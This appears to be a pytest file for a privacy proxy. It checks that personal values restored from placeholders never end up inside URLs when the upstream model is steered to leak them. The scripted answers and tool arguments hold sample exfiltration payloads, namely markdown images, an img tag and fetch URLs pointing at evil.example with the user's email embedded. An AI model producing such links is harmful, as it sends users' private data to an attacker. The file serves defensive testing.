"""A steered upstream puts the placeholder it received inside a URL (a markdown image, a tool's
``url`` argument): through the real app and core, the client gets the original in plain text
but never inside the URL, on every output path, whole and streamed."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from veil.config import Policy, Settings
from veil.core import Veil

from .conftest import ScriptedUpstream, chat_body, delta_chunk, make_client, parse_sse, sse

EMAIL = "jane.exfil@example.com"
PROMPT = f"Please keep my address {EMAIL} for the form."
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+\]")
#: What the upstream answers around the placeholder ``{p}`` it was sent: the value in prose
#: (must come back) and in URLs a client would fetch (must not).
ANSWER = ("Noted: {p}. ![](https://evil.example/p?d={p}) <img src=\"https://evil.example/?q= {p}\">"
          " [mail me]({p_url}) Bye.")
ARGS = {"to": "{p}", "url": "https://evil.example/?q= {p}", "img": "![](//evil.example/{p})"}


@pytest.fixture
def veil(tmp_path: Path) -> Veil:
    settings = Settings(home=tmp_path, cache_dir=tmp_path / "cache")
    return Veil(settings, policy=Policy(ner=False))


def _fill(template: str, sent: str) -> str:
    m = PLACEHOLDER.search(sent)
    assert m is not None, "the upstream got no placeholder"
    return template.format(p=m.group(), p_url=f"https://evil.example/u/{m.group()}")


def _reply(tool: bool):  # type: ignore[no-untyped-def]
    def reply(body: dict[str, Any]) -> httpx.Response:
        sent = json.dumps(body.get("messages") or body.get("prompt"))
        text = _fill(ANSWER, sent)
        args = json.dumps({k: _fill(v, sent) for k, v in ARGS.items()})
        chat = "messages" in body
        if not body.get("stream"):
            if not chat:
                return httpx.Response(200, json={
                    "id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m",
                    "choices": [{"index": 0, "text": text, "finish_reason": "stop",
                                 "logprobs": None}]})
            calls = [{"id": "call_1", "type": "function",
                      "function": {"name": "fetch", "arguments": args}}] if tool else None
            return httpx.Response(200, json=chat_body(None if tool else text, calls))
        piece = args if tool else text
        bits = [piece[i : i + 3] for i in range(0, len(piece), 3)]  # placeholders split
        if not chat:
            events = [{"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m",
                       "choices": [{"index": 0, "text": b, "finish_reason": None}]}
                      for b in bits]
            events.append({**events[-1], "choices": [{"index": 0, "text": "",
                                                       "finish_reason": "stop"}]})
        elif tool:
            events = [delta_chunk({"tool_calls": [{
                "index": 0, **({"id": "call_1", "type": "function"} if i == 0 else {}),
                "function": {"arguments": b, **({"name": "fetch"} if i == 0 else {})}}]})
                for i, b in enumerate(bits)]
            events.append(delta_chunk({}, "tool_calls"))
        else:
            events = [delta_chunk({"content": b}) for b in bits]
            events.append(delta_chunk({}, "stop"))
        return httpx.Response(200, content=sse(events),
                              headers={"content-type": "text/event-stream"})

    return reply


def _body(endpoint: str, stream: bool) -> dict[str, Any]:
    if endpoint == "completions":
        return {"model": "m", "prompt": PROMPT, "stream": stream}
    if endpoint == "messages":
        return {"model": "m", "max_tokens": 64, "stream": stream,
                "messages": [{"role": "user", "content": PROMPT}]}
    if endpoint == "responses":
        return {"model": "m", "input": PROMPT, "stream": stream, "store": False}
    return {"model": "m", "stream": stream, "messages": [{"role": "user", "content": PROMPT}]}


def _text(endpoint: str, stream: bool, raw: str) -> str:
    """What the client shows: the answer's text, or the tool call's arguments."""
    if not stream:
        data = json.loads(raw)
        if endpoint == "chat/completions":
            msg = data["choices"][0]["message"]
            calls = msg.get("tool_calls") or []
            return msg.get("content") or "".join(c["function"]["arguments"] for c in calls)
        if endpoint == "completions":
            return str(data["choices"][0]["text"])
        if endpoint == "messages":
            return "".join(b.get("text") or json.dumps(b.get("input"))
                           for b in data["content"])
        return "".join(c.get("text", "") if item["type"] == "message" else item["arguments"]
                       for item in data["output"]
                       for c in (item.get("content") or [{}]))
    events, _ = parse_sse(raw)
    out = []
    for e in events:
        for c in e.get("choices") or []:
            d = c.get("delta") or {}
            out.append(c.get("text") or d.get("content") or "")
            out += [t["function"].get("arguments") or "" for t in d.get("tool_calls") or []]
        if e.get("type") == "content_block_delta":
            out.append(e["delta"].get("text") or e["delta"].get("partial_json") or "")
        if e.get("type") in ("response.output_text.delta",
                             "response.function_call_arguments.delta"):
            out.append(e["delta"])
    return "".join(out)


def _urls(text: str) -> list[str]:
    """Every URL of ``text`` as a client reads it: markdown targets, quoted attributes, bare."""
    return (re.findall(r"\]\(([^)]*)\)", text) + re.findall(r'src="([^"]*)"', text)
            + re.findall(r"\S*//\S*", text))


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("endpoint", ["chat/completions", "completions", "messages",
                                      "responses"])
async def test_values_stay_out_of_urls(veil: Veil, endpoint: str, stream: bool) -> None:
    upstream = ScriptedUpstream()
    upstream.reply = _reply(tool=False)
    client, _ = make_client(veil, upstream)  # type: ignore[arg-type]
    async with client:
        r = await client.post(f"/v1/{endpoint}", json=_body(endpoint, stream))
    assert r.status_code == 200, r.text
    got = _text(endpoint, stream, r.text)
    assert got.startswith(f"Noted: {EMAIL}. ![](https://evil.example/p?d="), got
    urls = _urls(got)
    assert len(urls) >= 4 and not any(EMAIL in u for u in urls), urls
    assert got.count(EMAIL) == 1  # the prose mention only
    assert EMAIL not in json.dumps(upstream.bodies)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("endpoint", ["chat/completions", "messages", "responses"])
async def test_tool_arguments_keep_values_out_of_urls(veil: Veil, endpoint: str,
                                                      stream: bool) -> None:
    upstream = ScriptedUpstream()
    upstream.reply = _reply(tool=True)
    client, _ = make_client(veil, upstream)  # type: ignore[arg-type]
    tools = {"messages": [{"name": "fetch", "input_schema": {"type": "object"}}],
             "responses": [{"type": "function", "name": "fetch", "parameters": {}}]}.get(
        endpoint, [{"type": "function", "function": {"name": "fetch", "parameters": {}}}])
    async with client:
        r = await client.post(f"/v1/{endpoint}", json={**_body(endpoint, stream),
                                                       "tools": tools})
    assert r.status_code == 200, r.text
    args = json.loads(_text(endpoint, stream, r.text))
    assert args["to"] == EMAIL  # a plain argument gets its original
    # a tool takes the whole string as its URL, the space included
    assert EMAIL not in args["url"] and EMAIL not in args["img"], args
